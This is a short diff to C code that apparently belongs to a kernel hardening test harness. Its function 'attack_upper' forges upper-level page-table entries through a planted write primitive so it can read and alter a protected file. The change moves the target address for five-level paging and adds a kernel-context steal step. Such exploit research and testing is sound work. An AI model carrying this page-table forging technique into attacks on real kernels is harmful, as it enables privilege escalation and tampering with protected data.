@@ -8,7 +8,7 @@
 #include "common.h"
 #include "upper.h"
 
-/* An address that nothing uses, aligned for an entry of any level. */
+/* An address that nothing uses, aligned for an entry of four levels. */
 #define TARGET	0x100000000000UL
 
 /*
@@ -43,7 +43,8 @@ int attack_upper(int level, const char *path)
 	u64 span = 1UL << info->shift[level];
 	u64 secret = vuln_file_phys(path);
 	long size = page_size();
-	char *target = (char *)TARGET;
+	/* What the first entry of five levels covers is in use. */
+	char *target = (char *)(span > TARGET ? span : TARGET);
 	char *before = map_pages(target - size, size);
 	char *after = map_pages(target + span, size);
 	struct kpkeys_vuln_entry e;
@@ -61,7 +62,10 @@ int attack_upper(int level, const char *path)
 	forged = forge_tables(level, target, secret);
 	vuln_write(e.addr, forged | info->table);
 	sync_between(before, after);
-	steal_and_alter(target);
+	if (level == KPKEYS_VULN_PGD)
+		steal_and_alter_as_kernel(target);
+	else
+		steal_and_alter(target);
 
 	vuln_write(e.addr, info->sync);
 	sync_between(before, after);
